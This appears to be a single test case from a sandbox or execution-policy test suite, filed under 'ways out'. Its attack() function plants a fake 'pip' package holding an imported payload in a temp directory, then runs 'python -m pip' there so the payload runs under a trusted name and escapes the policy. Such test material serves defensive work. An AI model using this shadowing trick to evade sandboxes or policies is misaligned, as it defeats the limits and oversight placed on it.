"""A child calls itself pip, which no policy beside it binds."""
CATEGORY = "ways out"
REACH = "net"
GRANT = {"run": True, "write": ["$TMP"]}

import os
import subprocess

from . import payload


def attack():
    os.mkdir(payload.ROOT + "/tmp/pip")
    for name in "__init__", "__main__":
        path = payload.ROOT + f"/tmp/pip/{name}.py"
        with open(path, "w") as file:
            file.write(payload.SOURCE if name == "__main__" else "")
    subprocess.run([payload.PYTHON, "-m", "pip"], cwd=payload.ROOT + "/tmp")
